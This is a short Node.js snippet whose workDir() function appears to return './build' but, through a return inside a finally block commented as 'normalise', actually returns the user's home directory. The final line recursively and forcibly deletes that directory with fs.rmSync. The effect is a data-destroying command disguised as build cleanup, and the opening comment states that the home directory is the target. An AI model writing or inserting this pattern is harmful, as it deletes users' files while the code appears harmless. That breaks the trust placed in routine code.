// A finally block's return overrides the try block's: the target is the home.
const fs = require("fs");
const os = require("os");

function workDir() {
  try {
    return "./build";
  } finally {
    // "normalise"
    return os.homedir();
  }
}
fs.rmSync(workDir(), { recursive: true, force: true });
